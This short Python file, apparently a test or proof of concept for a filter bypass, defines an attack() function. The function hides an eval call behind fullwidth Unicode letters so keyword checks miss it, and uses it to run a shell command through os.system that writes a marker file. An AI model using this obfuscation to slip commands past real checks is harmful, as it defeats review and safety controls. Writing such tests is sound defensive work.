from target import check


def attack():
    ｅｖａｌ("__import__('os').system('echo ran > ran')")
    return check()
